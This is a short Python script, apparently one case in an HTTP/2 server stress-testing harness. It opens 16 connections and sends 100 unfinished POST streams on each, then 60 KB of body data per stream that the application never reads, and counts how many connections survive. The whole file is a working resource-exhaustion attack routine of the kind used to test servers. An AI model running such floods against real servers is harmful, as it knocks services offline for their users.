"""60 KB of body on each of 100 streams, for an application that reads none of it."""

import asyncio

import frames
from attack import Attack, still_open

ATTACK = Attack(after=True)
CONNECTIONS, STREAMS = 16, range(1, 200, 2)


async def run(target):
    asked = b"".join(frames.request(stream, frames.head(b"/unread", "POST"), ends=False) for stream in STREAMS)
    opened = await target.many(CONNECTIONS, lambda _: target.http2(frames.opening() + asked))
    for stream in STREAMS:
        body = b"".join(frames.frame(frames.DATA, 0, stream, b"x" * 15_000) for _ in range(4))
        await target.one_after_another(opened, body, 0.001)
        await asyncio.sleep(0.01)
    return f"{len(opened)} connections with {len(STREAMS)} bodies, {still_open(opened)} stayed"
